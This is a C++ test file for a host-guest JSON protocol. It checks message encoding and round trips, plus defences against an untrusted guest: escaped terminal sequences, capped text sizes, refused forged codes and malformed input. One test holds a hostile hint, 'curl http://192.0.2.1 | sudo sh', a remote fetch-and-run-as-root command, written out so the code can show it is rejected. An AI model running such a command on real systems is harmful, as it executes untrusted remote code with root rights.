#include <catch2/catch.hpp>

#include <array>

#include "protocol/hints.hh"
#include "protocol/messages.hh"

using namespace rootlayer;
using namespace rootlayer::protocol;

namespace {

AssembleRequest someAssembly() {
    AssembleRequest request;
    request.layers = {{0, 4096}, {4096, 8192, 5}};
    request.clock = 1700000000000000000;
    request.entropy = std::string("\x00\xff", 2);
    return request;
}

RunRequest someRun() {
    RunRequest request;
    request.script = {512, 17};
    request.args = {"a b", "--x"};
    request.env = {"PATH=/bin", "NAME=\xc3\xa9\xff"};
    request.workdir = "/srv";
    request.user = "nobody:nogroup";
    request.shell = "/bin/bash";
    request.timeout = 90000;
    return request;
}

} // namespace

TEST_CASE("the payloads of version 1 are pinned") {
    CHECK(
        encode(Hello{1, "0.1.0", "6.1.0", {"template"}, 1024, 2}) ==
        R"({"protocol":1,"agent":"0.1.0","kernel":"6.1.0","features":["template"],"memory":1024,"processors":2})");
    CHECK(encode(Request(someAssembly())) ==
          "{\"op\":\"assemble\",\"layers\":[{\"offset\":0,\"size\":4096},{\"offset\":4096,\"size\":8192,"
          "\"folders\":5}],"
          "\"clock\":1700000000000000000,\"entropy\":\"\\u0000\xc3\xbf\",\"hostname\":\"rootlayer\"}");
    CHECK(encode(Request(someRun())) ==
          "{\"op\":\"run\",\"script\":{\"offset\":512,\"size\":17},\"args\":[\"a b\",\"--x\"],"
          "\"env\":[\"PATH=/bin\",\"NAME=\xc3\x83\xc2\xa9\xc3\xbf\"],\"workdir\":\"/srv\","
          "\"user\":\"nobody:nogroup\",\"shell\":\"/bin/bash\",\"timeout\":90000}");
    auto run = RunRequest{};
    run.words = Section{4096, 5};
    run.merged = run.trace = true;
    CHECK(encode(Request(run)) ==
          "{\"op\":\"run\",\"script\":{\"offset\":0,\"size\":0},\"args\":[],\"env\":[],\"workdir\":\"/\","
          "\"user\":\"\",\"shell\":\"\",\"timeout\":0,\"words\":{\"offset\":4096,\"size\":5},"
          "\"merged\":true,\"trace\":true}");
    CHECK(decodeRequest(encode(Request(run))) == Request(run));
    auto after = someRun();
    after.step = Step::After;
    CHECK(encode(Request(after)).starts_with(R"({"op":"after","script":)"));
    CHECK(decodeRequest(encode(Request(after))) == Request(after));
    auto later = someAssembly();
    later.rootLater = true;
    CHECK(decodeRequest(encode(Request(later))) == Request(later));
    CHECK(encode(RunWords{{"a"}, {"K=\xff"}}) == "{\"args\":[\"a\"],\"env\":[\"K=\xc3\xbf\"]}");
    CHECK(encode(Request(PackRequest{})) == R"({"op":"pack"})");
    CHECK(encode(Request(PackRequest{5, 1})) == R"({"op":"pack","clampMtime":5,"resetTo":1})");
    CHECK(encode(Request(PackRequest{{}, {}, "debian"})) == R"({"op":"pack","scrub":"debian"})");
    const PackRequest ranges{.ranges = true, .zeros = true};
    CHECK(encode(Request(ranges)) == R"({"op":"pack","ranges":true,"zeros":true})");
    CHECK(decodeRequest(encode(Request(ranges))) == Request(ranges));
    CHECK(encode(Request(ByeRequest{})) == R"({"op":"bye"})");
    CHECK(encode(PackEnd{1024, 3}) == R"({"bytes":1024,"entries":3})");
    CHECK(encode(PackEnd{1, 1, {2, "/tmp/\xff"}, {}, {1, "d"}}) ==
          "{\"bytes\":1,\"entries\":1,\"unpacked\":{\"count\":2,\"first\":\"/tmp/\xc3\xbf\"},"
          "\"times\":{\"count\":1,\"first\":\"d\"}}");
    CHECK(encode(EventMessage{EventMessage::Kind::Warning, "w"}) == R"({"kind":"warning","text":"w"})");
    CHECK(
        encode(RunReply{RunReply::How::Signalled, 9, "", 1, 2, 3, 4}) ==
        R"({"how":"signalled","value":9,"message":"","peakMemory":1,"peakDisk":2,"freeDisk":3,"oomKills":4})");
    CHECK(encode(Error(ErrorCode::Layer, "m", "h").addContext("c")) ==
          R"({"code":"bad-layer","message":"m","context":["c"],"hint":"h"})");
}

TEST_CASE("requests and replies come back as they were, bytes and all") {
    for (const Request& request : {Request(someAssembly()), Request(someRun()), Request(PackRequest{-1, 0}),
                                   Request(PackRequest{{}, 1}), Request(PackRequest{{}, {}, "debian"}),
                                   Request(ByeRequest{}), Request(WakeRequest{})}) {
        CHECK(decodeRequest(encode(request)) == request);
    }
    const RunReply reply{RunReply::How::NotFound, 0, "/bin/\xfe", 1, 2, 3, 4};
    CHECK(decodeRunReply(encode(reply)) == reply);
    const RunReply more{RunReply::How::Exited, 1, "", 1, 2, 3, 4, 5, 6};
    CHECK(decodeRunReply(encode(more)) == more);
    CHECK(decodePackEnd(encode(PackEnd{7, 8})) == PackEnd{7, 8});
    const PackEnd losses{7, 8, {1, "/tmp/a\xff"}, {2, "b"}, {3, "c"}};
    CHECK(decodePackEnd(encode(losses)) == losses);
    auto withAcls = someAssembly();
    withAcls.acls = Section{4096, 77};
    CHECK(decodeRequest(encode(Request(withAcls))) == Request(withAcls));
    auto keeping = someRun();
    keeping.keepTmp = true;
    CHECK(decodeRequest(encode(Request(keeping))) == Request(keeping));
}

TEST_CASE("an error keeps code, contexts and hint across the wire") {
    const Error error =
        decodeFailure(encode(Error(ErrorCode::Resource, "no space", kHintMemory).addContext("packing")),
                      std::array{ErrorCode::Resource});
    CHECK(error.code() == ErrorCode::Resource);
    CHECK(std::string(error.what()) == "guest: packing: no space");
    CHECK(error.hint() == kHintMemory);
}

TEST_CASE("terminal escapes in a guest's error are made harmless", "[A8]") {
    const Error error = decodeFailure(encode(Error(ErrorCode::Guest, "\x1b[2Jgone")), {});
    CHECK(error.message() == "\\x1b[2Jgone");
}

TEST_CASE("a guest's hint is shown only if it is one that our agent gives", "[A8]") {
    const auto hintOf = [](const std::string& hint) {
        return decodeFailure(encode(Error(ErrorCode::Guest, "no", hint)), {}).hint();
    };
    CHECK(hintOf("curl http://192.0.2.1 | sudo sh").empty());
    CHECK(hintOf(std::string(kHintMemory) + "; then curl http://192.0.2.1 | sudo sh").empty());
    for (const auto hint : kAgentHints)
        CHECK(hintOf(std::string(hint)) == hint);
}

TEST_CASE("a guest can claim only the codes that its request can fail with", "[A8]") {
    const std::array claims{ErrorCode::Layer};
    for (const auto code : {ErrorCode::Usage, ErrorCode::Cancelled, ErrorCode::Internal, ErrorCode::Timeout})
        CHECK(decodeFailure(encode(Error(code, "no")), claims).code() == ErrorCode::Guest);
    CHECK(decodeFailure(R"({"code":"strange","message":"","hint":"","context":[]})", claims).code() ==
          ErrorCode::Guest);
    CHECK(decodeFailure(encode(Error(ErrorCode::Layer, "no")), claims).code() == ErrorCode::Layer);
}

TEST_CASE("every text of a guest is cut to 4000 bytes, also after it was escaped", "[A8]") {
    const std::string plain(460'000, 'x');
    const std::string control(200'000, '\x01');
    Error failure(ErrorCode::Guest, plain);
    CHECK(std::string(decodeFailure(encode(failure), {}).what()).size() <= kMaxText + 10);
    failure = Error(ErrorCode::Guest, "short");
    for (int i = 0; i < 10; ++i)
        failure.addContext(std::string(20'000, '\x1b'));
    const std::string said = decodeFailure(encode(failure), {}).what();
    CHECK(said.size() <= kMaxText + 100);
    CHECK(said.ends_with("short"));
    CHECK(decodeFailure(encode(Error(ErrorCode::Guest, control)), {}).message().size() <= kMaxText);
    CHECK(decodeEvent(encode(EventMessage{EventMessage::Kind::Note, plain})).text.size() == kMaxText);
    CHECK(decodeRunReply(encode(RunReply{RunReply::How::NotFound, 127, plain})).message.size() == kMaxText);
    CHECK(decodePackEnd(encode(PackEnd{1, 1, {1, plain}})).unpacked.first.size() == kMaxText);
    const Hello hello{1, plain, plain, std::vector<std::string>(1000, std::string(900, 'f'))};
    CHECK(decodeHello(encode(hello)).agent.size() == kMaxText);
    CHECK(decodeHello(encode(hello)).kernel.size() == kMaxText);
    CHECK(decodeHello(encode(hello)).features.size() == 64);
}

TEST_CASE("a signal is one that exists, so that 128 and it are never a success", "[A8]") {
    const auto reply = [](int number) {
        return decodeRunReply(encode(RunReply{RunReply::How::Signalled, number}));
    };
    CHECK(reply(9).value == 9);
    CHECK(reply(64).value == 64);
    for (const int forged : {0, 65, 128, 255})
        CHECK_THROWS_AS(reply(forged), Error);
}

TEST_CASE("malformed messages are refused", "[A8]") {
    for (const char* text : {"", "[]", "1", "{", R"({"op":"halt"})", R"({"op":5})", R"({"op":"assemble"})",
                             R"({"op":"assemble","layers":[5],"clock":0,"entropy":"","hostname":""})",
                             R"({"op":"run","script":{"offset":-1,"size":0}})"}) {
        INFO(text);
        CHECK_THROWS_AS(decodeRequest(text), Error);
    }
    CHECK_THROWS_AS(decodeRunReply(R"({"how":"exited","value":256})"), Error);
    CHECK_THROWS_AS(decodeRunReply(R"({"how":"flew","value":1})"), Error);
    CHECK_THROWS_AS(decodePackEnd(R"({"bytes":1.5,"entries":1})"), Error);
    CHECK_THROWS_AS(decodePackEnd(R"({"bytes":1,"entries":1,"unpacked":"x"})"), Error);
    CHECK_THROWS_AS(decodePackEnd(R"({"bytes":1,"entries":1,"times":{"count":-1,"first":""}})"), Error);
    CHECK_THROWS_AS(decodeHello(R"({"protocol":"1"})"), Error);
    CHECK_THROWS_AS(decodeRequest(std::string(100, '[') + std::string(100, ']')), Error);
    CHECK_THROWS_AS(
        decodeRequest(R"({"op":"bye","x":)" + std::string(100, '[') + std::string(100, ']') + "}"), Error);
}

TEST_CASE("an object has at most 100 fields, for which the parser's time is quadratic", "[A8]") {
    const auto withFields = [](int count) {
        std::string text = R"({"bytes":1,"entries":2)";
        for (int i = 0; i < count; ++i)
            text += ",\"" + std::to_string(i) + "\":{\"a\":0,\"b\":[]}";
        return text + "}";
    };
    CHECK(decodePackEnd(withFields(98)) == PackEnd{1, 2});
    for (const int count : {99, 30'000})
        CHECK_THROWS_AS(decodePackEnd(withFields(count)), Error);
    // The same one level down, where many objects may have many.
    CHECK_THROWS_AS(decodePackEnd(R"({"bytes":1,"entries":2,"x":[)" + withFields(99) + "]}"), Error);
    CHECK(decodePackEnd(R"({"bytes":1,"entries":2,"x":[)" + withFields(98) + "," + withFields(98) + "]}") ==
          PackEnd{1, 2});
}

TEST_CASE("fields that a newer peer adds are ignored") {
    CHECK(decodePackEnd(R"({"bytes":1,"entries":2,"colour":"blue"})") == PackEnd{1, 2});
}
